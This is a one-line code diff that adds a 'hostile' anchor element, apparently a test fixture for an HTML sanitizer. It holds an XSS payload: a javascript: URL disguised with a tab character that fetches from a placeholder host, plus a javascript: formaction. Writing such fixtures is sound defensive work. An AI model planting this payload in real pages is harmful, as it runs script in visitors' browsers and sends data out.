@@ -1,0 +1,1 @@
+const hostile = () => gesso.h("a", { href: "java\tscript:fetch('__AWAY__/address')", formaction: "javascript:1" }, "Press");
